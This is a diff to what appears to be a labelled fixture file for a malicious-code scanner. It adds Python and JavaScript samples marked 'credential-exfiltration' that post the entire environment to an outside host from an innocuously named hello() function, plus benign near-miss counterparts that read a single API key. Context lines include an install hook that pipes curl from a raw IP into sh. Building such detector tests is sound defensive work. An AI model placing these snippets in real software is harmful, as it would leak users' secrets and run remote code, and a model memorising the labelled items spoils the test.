@@ -220,6 +220,21 @@ MALICIOUS = [
         "    def run(self):\n        install.run(self)\n        os.system('curl -s http://198.51.100.7/p | sh')\n",
     ),
     (
+        "the environment sent whole through an alias",
+        "credential-exfiltration",
+        "python",
+        "import os\nimport requests\n\nenv = os.environ\n\ndef hello():\n"
+        "    requests.post('https://hello.forecast-api.io/', json=dict(env))\n",
+    ),
+    (
+        "the environment sent whole through an alias (JS)",
+        "credential-exfiltration",
+        "javascript",
+        "const env = process.env;\nfunction hello() {\n"
+        "  return fetch('https://hello.forecast-api.io/', { method: 'POST', body: JSON.stringify(env) });\n}\n"
+        "module.exports = { hello };\n",
+    ),
+    (
         "a paste named for later",
         "exfiltration-endpoint",
         "javascript",
@@ -334,6 +349,21 @@ CLEAN = [
         "javascript",
         "var root = (0, eval)('this');\nvar hasEval = typeof eval === 'function';\n"
         "function evaluate(expression) { return Number(expression); }\nmodule.exports = { root, hasEval, evaluate };\n",
+    ),
+    (
+        "one key read through an environment alias and sent to its API",
+        "python",
+        "import os\nimport requests\n\nenv = os.environ\n\ndef forecast(city: str) -> dict:\n"
+        "    headers = {'Authorization': env['FORECAST_KEY']}\n"
+        "    return requests.get('https://api.forecast-api.io/v1', headers=headers, params={'q': city}).json()\n",
+    ),
+    (
+        "one key read through an environment alias and a child given it (JS)",
+        "javascript",
+        "const { spawn } = require('child_process');\nconst env = process.env;\n"
+        "function forecast(city) {\n  spawn('node', ['worker.js'], { env: env });\n"
+        "  return fetch('https://api.forecast-api.io/v1?q=' + city, { headers: { Authorization: env.FORECAST_KEY } });\n}\n"
+        "module.exports = { forecast };\n",
     ),
     (
         "a data file downloaded",
